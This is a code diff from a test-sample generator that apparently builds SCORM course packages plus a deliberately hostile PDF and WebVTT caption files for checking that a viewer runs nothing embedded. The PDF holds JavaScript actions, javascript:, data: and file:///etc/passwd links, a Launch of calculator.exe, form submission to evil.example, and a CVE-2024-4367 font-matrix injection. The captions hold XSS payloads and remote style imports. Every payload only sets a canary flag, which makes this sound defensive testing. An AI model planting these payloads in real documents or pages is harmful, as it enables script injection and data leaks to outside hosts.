@@ -1,4 +1,4 @@
-import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, rmSync, writeFileSync, readdirSync, readFileSync } from 'node:fs';
 import { dirname } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { makeEpub } from './epub/make-epub.ts';
@@ -21,10 +21,193 @@ import {
   makeFilmAndSound,
   sceneVtt,
 } from './media/make-media.ts';
-import { HOSTILE_CAPTIONS, HOSTILE_CHAPTERS } from './media/hostile-captions.ts';
-import { makePackages } from './packages.ts';
-import { makeHostileDocument } from './pdf/hostile-document.ts';
 import { makeCard, makeDamaged, makeHandbook, makeSiteRules } from './pdf/make-pdf.ts';
+
+type Package = {
+  folder: string;
+  source: string;
+  shared: readonly string[];
+  scorm?: { id: string; title: string; mastery?: number };
+};
+
+const PACKAGES: readonly Package[] = [
+  {
+    folder: 'scorm/induction',
+    source: 'induction',
+    shared: ['course.css', 'pages.js', 'find-api.js'],
+    scorm: { id: 'lighthouse.induction', title: 'Induction: your first day', mastery: 67 },
+  },
+  {
+    folder: 'scorm/silent',
+    source: 'silent',
+    shared: ['course.css', 'pages.js', 'find-api.js'],
+    scorm: { id: 'lighthouse.silent', title: 'Silent: tidy desks' },
+  },
+  {
+    folder: 'scorm/disorderly',
+    source: 'disorderly',
+    shared: ['course.css', 'pages.js', 'find-api.js'],
+    scorm: { id: 'lighthouse.disorderly', title: 'Disorderly: everything at the wrong time' },
+  },
+  {
+    folder: 'scorm/launcher',
+    source: 'launcher',
+    shared: ['course.css', 'pages.js', 'find-api.js'],
+    scorm: { id: 'lighthouse.launcher', title: 'Launcher: the stock room' },
+  },
+  {
+    folder: 'scorm/captive',
+    source: 'captive',
+    shared: ['course.css', 'pages.js', 'find-api.js'],
+    scorm: { id: 'lighthouse.captive', title: 'Captive: the lock room' },
+  },
+  { folder: 'xapi/first-aid', source: 'first-aid', shared: ['course.css', 'pages.js'] },
+  { folder: 'aicc/forklift', source: 'forklift', shared: ['course.css', 'pages.js'] },
+];
+
+const HERE = new URL('./packages/', import.meta.url);
+
+/** Every file of every package by its path below samples/: own files, shared files, and the manifest of a SCORM package. */
+function makePackages(): Map<string, Uint8Array> {
+  const files = new Map<string, Uint8Array>();
+  for (const { folder, source, shared, scorm } of PACKAGES) {
+    const own = readdirSync(new URL(`${source}/`, HERE));
+    for (const name of own) files.set(`${folder}/${name}`, readFileSync(new URL(`${source}/${name}`, HERE)));
+    for (const name of shared) files.set(`${folder}/${name}`, readFileSync(new URL(`shared/${name}`, HERE)));
+    if (scorm) files.set(`${folder}/imsmanifest.xml`, Buffer.from(manifest(scorm, [...own, ...shared].sort())));
+  }
+  return files;
+}
+
+const manifest = (
+  { id, title, mastery }: NonNullable<Package['scorm']>,
+  names: readonly string[],
+): string => `<?xml version="1.0" encoding="UTF-8"?>
+<manifest identifier="${id}" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
+  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
+  <organizations default="org">
+    <organization identifier="org">
+      <title>${title}</title>
+      <item identifier="item-1" identifierref="res-1"><title>${title}</title>${mastery === undefined ? '' : `<adlcp:masteryscore>${mastery}</adlcp:masteryscore>`}</item>
+    </organization>
+  </organizations>
+  <resources>
+    <resource identifier="res-1" type="webcontent" adlcp:scormtype="sco" href="index.html">
+${names.map((name) => `      <file href="${name}"/>`).join('\n')}
+    </resource>
+  </resources>
+</manifest>
+`;
+
+/** What would be seen if a document could run anything: the books of this folder set the same. */
+const SCRIPT = 'globalThis.canary = true; app.alert\\("ran"\\);';
+const ELSEWHERE = 'https://evil.example';
+
+/** Actions that the standard has and a page in a browser must not follow, each on a link of its own. */
+const ACTIONS = [
+  `/S /JavaScript /JS (${SCRIPT})`,
+  `/S /URI /URI (javascript:globalThis.canary=true)`,
+  `/S /URI /URI (JaVaScRiPt:globalThis.canary=true)`,
+  `/S /URI /URI (data:text/html,<script>globalThis.canary=true</script>)`,
+  `/S /URI /URI (vbscript:msgbox)`,
+  `/S /URI /URI (file:///etc/passwd)`,
+  `/S /Launch /F (calculator.exe)`,
+  `/S /SubmitForm /F (${ELSEWHERE}/form) /Flags 4`,
+  `/S /ImportData /F (${ELSEWHERE}/data.fdf)`,
+  `/S /GoToR /F (${ELSEWHERE}/other.pdf) /D [0 /Fit]`,
+  `/S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit]`,
+  `/S /Named /N /Print`,
+];
+/** The one link that may stand. */
+const GOOD = `/S /URI /URI (https://example.org/rules)`;
+const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">globalThis.canary = true</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${ELSEWHERE}/xfa.png" onerror="globalThis.canary = true"/></body></exData></value></draw></subform></template></xdp:xdp>`;
+const INNER = '<html><script>globalThis.canary = true</script></html>';
+const WORDS = 'BT /F1 28 Tf 60 760 Td (Nothing of this may run) Tj ET';
+
+/** One page that may be read, with everything around it that a document can bring along to act. */
+export function makeHostileDocument(): Uint8Array {
+  const firstLink = 11;
+  const links = [...ACTIONS, GOOD].map(
+    (action, nth) =>
+      `<< /Type /Annot /Subtype /Link /Rect [60 ${700 - nth * 40} 540 ${735 - nth * 40}] /Border [0 0 1] /A << ${action} >> /AA << /PV << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
+  );
+  const annotations = links.map((_, nth) => `${firstLink + nth} 0 R`).join(' ');
+  return assemble([
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${SCRIPT}) >> /AA << /WC << /S /JavaScript /JS (${SCRIPT}) >> >> /AcroForm 6 0 R /Names << /JavaScript << /Names [(start) << /S /JavaScript /JS (${SCRIPT}) >>] >> /EmbeddedFiles << /Names [(inner.html) 9 0 R] >> >> /Outlines << /First 10 0 R /Last 10 0 R /Count 1 >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [${annotations} 7 0 R] /AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >> /Resources << /Font << /F1 5 0 R >> >> >>`,
+    stream('', WORDS),
+    // A matrix that is text once ended up in generated code (CVE-2024-4367).
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.canary = true; //)] >>',
+    `<< /Fields [7 0 R] /XFA 8 0 R /NeedAppearances true >>`,
+    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<img src=x onerror=globalThis.canary=true>) /Rect [60 30 540 60] /AA << /K << /S /JavaScript /JS (${SCRIPT}) >> /F << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
+    stream('', XFA),
+    `<< /Type /Filespec /F (../../inner.html) /UF (../../inner.html) /EF << /F ${firstLink + links.length} 0 R >> >>`,
+    `<< /Title (<img src=x onerror=globalThis.canary=true>) /Parent 1 0 R /A << /S /URI /URI (javascript:globalThis.canary=true) >> >>`,
+    ...links,
+    stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', INNER),
+  ]);
+}
+
+const stream = (entries: string, text: string): string =>
+  `<< ${entries} /Length ${Buffer.byteLength(text)} >>\nstream\n${text}\nendstream`;
+
+/** Objects 1, 2, 3, … with a cross-reference table; object 1 is the catalog. */
+export function assemble(objects: readonly (Buffer | string)[], trailer = ''): Buffer {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
+  const offsets: number[] = [];
+  let length = parts[0]!.length; // just put in
+  const add = (part: Buffer) => {
+    parts.push(part);
+    length += part.length;
+  };
+  objects.forEach((body, index) => {
+    offsets.push(length);
+    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]));
+  });
+  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
+  const start = length;
+  const count = objects.length + 1;
+  add(Buffer.from(`xref\n0 ${count}\n0000000000 65535 f \n${table}`));
+  add(Buffer.from(`trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`));
+  return Buffer.concat(parts);
+}
+
+/**
+ * Captions and chapters that bring along what markup can: elements that run, voices and classes that hold code, a style
+ * and a region that ask elsewhere. Only their words may be seen. WebVTT §4.
+ */
+const HOSTILE_CAPTIONS = `WEBVTT
+
+STYLE
+@import url(https://evil.example/captions.css);
+::cue { background: url(https://evil.example/cue.png); color: lime }
+
+REGION
+id:<script>
+
+1
+00:00:00.000 --> 00:00:20.000
+<v javascript:globalThis.canary=true>Said by code</v>
+<script>globalThis.canary = true</script><img src=x onerror=globalThis.canary=true>
+<c.x"onmouseover="globalThis.canary=true">A class</c> <a href="javascript:globalThis.canary=true">A link</a>
+
+2
+00:00:00.000 --> 00:00:20.000 region:<script> position:1e308% line:-99999999999
+<v <img src=x onerror=globalThis.canary=true>>Said by an image</v> &lt;svg onload=globalThis.canary=true&gt;
+<lang en"><iframe srcdoc="<script>globalThis.canary=true</script>"></iframe></lang>
+<ruby>word<rt><svg/onload=globalThis.canary=true></rt></ruby>
+`;
+
+/** As chapters: their words stand in the menu of the player. */
+const HOSTILE_CHAPTERS = `WEBVTT
+
+00:00:00.000 --> 00:00:10.000
+<img src=x onerror=globalThis.canary=true>Opening
+
+00:00:10.000 --> 00:00:20.000
+&lt;img src=https://evil.example/x.png onerror=globalThis.canary=true&gt; Ending
+`;
 
 /** Every sample that needs no browser, by its path below samples/. The same scripts give the same bytes. */
 export async function makeSamples(): Promise<Map<string, Uint8Array>> {
